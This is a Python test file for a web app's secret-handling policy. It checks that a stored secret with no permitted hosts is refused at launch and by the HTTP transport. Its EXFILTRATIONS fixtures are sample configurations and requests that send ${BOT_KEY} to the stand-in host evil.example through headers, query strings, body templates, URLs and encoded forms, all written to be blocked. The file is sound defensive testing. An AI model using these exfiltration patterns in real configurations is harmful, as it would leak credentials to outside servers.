"""Secrets go only where their owner said (issue 32): a secret with no hosts stated is sent
nowhere — an editor's chatbot.yaml that would carry it to their own server (in a header, a
query parameter, a body template, the URL itself) is refused at launch with a located
error, and so is the owner's own launch; whatever slips past the launch check (a
percent-encoded, JSON-escaped or Basic-encoded copy, a redirect) is refused by the
transport."""

from __future__ import annotations

import json
from typing import Any

import pytest
from web_helpers import PROFILE, api, client_for

from sparring.web._files import save_file
from sparring.web._secrets import set_secret
from sparring.web.models import Run

SECRET = "unbound-secret-value-0123456789"

EXFILTRATIONS = {
    "header": (
        "connector: rest\nparams:\n  base_url: http://evil.example\n"
        "  headers: {X-Api-Key: '${BOT_KEY}'}\n"
        "  send_message: {path: /chat, payload_template: {message: '{user_msg}'}}\n"
    ),
    "query parameter": (
        "connector: rest\nparams:\n  base_url: http://evil.example\n"
        "  send_message:\n    path: /chat?k=${BOT_KEY}\n"
        "    payload_template: {message: '{user_msg}'}\n"
    ),
    "body template": (
        "connector: rest\nparams:\n  base_url: http://evil.example\n"
        "  send_message:\n    path: /chat\n"
        "    payload_template: {message: '{user_msg}', key: '${BOT_KEY}'}\n"
    ),
    "url": "connector: rest\nparams:\n  base_url: 'http://evil.example/${BOT_KEY}'\n",
    "host of the url": "connector: rest\nparams:\n  base_url: 'http://${BOT_KEY}.evil.example'\n",
}
"""An editor's chatbot.yaml that would send ``BOT_KEY`` to a server of theirs, each way."""


def _launch(client: Any, project: Any) -> Any:
    settings = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    return api(
        client,
        "post",
        "/api/runs/",
        {"project": project.pk, "job": "simulate", "settings": settings},
    )


@pytest.mark.parametrize("how", sorted(EXFILTRATIONS))
def test_an_editor_cannot_send_a_secret_with_no_hosts_anywhere(
    world: dict[str, Any], how: str
) -> None:
    project, owner, editor = world["project"], world["owner"], world["editor"]
    set_secret(project, "BOT_KEY", SECRET, owner)  # no hosts stated
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    save_file(project, "chatbot", "chatbot.yaml", EXFILTRATIONS[how], editor)
    response = _launch(client_for(editor), project)
    assert response.status_code == 400, how
    problems = response.data["problems"]
    said = json.dumps(problems)
    assert "${BOT_KEY} has no hosts" in said, said
    located = [p for p in problems if p["file"] == "chatbot.yaml" and p["line"]]
    assert located and located[0]["key"].startswith("params."), problems
    assert SECRET not in said
    assert not Run.objects.exists()


def test_the_owners_own_launch_is_refused_too_until_hosts_are_stated(
    world: dict[str, Any],
) -> None:
    """The decision is on the secret, not on who launches (docs/web.md, Security model)."""
    project, owner = world["project"], world["owner"]
    set_secret(project, "BOT_KEY", SECRET, owner)
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    save_file(project, "chatbot", "chatbot.yaml", EXFILTRATIONS["header"], owner)
    response = _launch(client_for(owner), project)
    assert response.status_code == 400
    assert "has no hosts" in json.dumps(response.data)
    set_secret(project, "BOT_KEY", SECRET, owner, hosts=["evil.example"])  # stated: allowed
    assert _launch(client_for(owner), project).status_code == 201


def test_a_chatbot_that_reads_no_secret_launches(world: dict[str, Any]) -> None:
    """The control: an unbound secret the chatbot.yaml does not read refuses nothing."""
    project, owner = world["project"], world["owner"]
    set_secret(project, "BOT_KEY", SECRET, owner)
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    save_file(project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", owner)
    assert _launch(client_for(world["editor"]), project).status_code == 201


async def test_the_transport_sends_a_secret_with_no_hosts_nowhere() -> None:
    """Whatever built the request, a secret with no hosts — as is, percent-encoded,
    JSON-escaped or in a Basic authorization — never leaves; a bound one leaves only to
    its hosts; the CLI (no binding) is untouched."""
    import base64
    import ipaddress

    import httpx

    from sparring._policy import ExecutionPolicy, scoped
    from sparring._ssrf import AddressRefused, GuardedTransport, NetworkPolicy

    secret = 's3cret/with+odd=chars&"quote"'
    reached: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        reached.append(request.headers["host"])
        return httpx.Response(200, json={"reply": "ok"})

    async def public(host: str, port: int) -> list[Any]:
        return [ipaddress.ip_address("93.184.216.34")]

    def client() -> httpx.AsyncClient:
        transport = GuardedTransport(NetworkPolicy(), httpx.MockTransport(answer), resolver=public)
        return httpx.AsyncClient(transport=transport)

    basic = base64.b64encode(f"me:{secret}".encode()).decode()
    attempts = [
        ("get", "http://evil.example/chat", {"params": {"k": secret}}),
        ("post", "http://evil.example/chat", {"json": {"key": secret}}),
        ("post", "http://evil.example/chat", {"data": {"key": secret}}),
        ("post", "http://evil.example/chat", {"headers": {"X-Api-Key": secret}}),
        ("post", "http://evil.example/chat", {"headers": {"Authorization": f"Basic {basic}"}}),
    ]
    unbound = ExecutionPolicy(run_code=False, secrets={"BOT_KEY": secret}, secret_hosts={})
    with scoped(unbound):
        async with client() as http:
            for method, url, extra in attempts:
                with pytest.raises(AddressRefused, match="BOT_KEY has no hosts"):
                    await getattr(http, method)(url, **extra)
            assert (
                await http.post("http://evil.example/chat", json={"m": "hi"})
            ).status_code == 200
    assert reached == ["evil.example"]  # only the request that carried no secret
    bound = ExecutionPolicy(
        run_code=False,
        secrets={"BOT_KEY": secret},
        secret_hosts={"BOT_KEY": frozenset({"bot.example"})},
    )
    with scoped(bound):
        async with client() as http:
            for method, _url, extra in attempts:
                assert (
                    await getattr(http, method)("http://bot.example/chat", **extra)
                ).status_code == 200
                with pytest.raises(AddressRefused, match=r"only to bot\.example"):
                    await getattr(http, method)("http://evil.example/chat", **extra)
    cli = ExecutionPolicy(secrets={"BOT_KEY": secret})  # no binding: the person's own machine
    with scoped(cli):
        async with client() as http:
            assert (await http.get("http://evil.example/", params={"k": secret})).status_code == 200
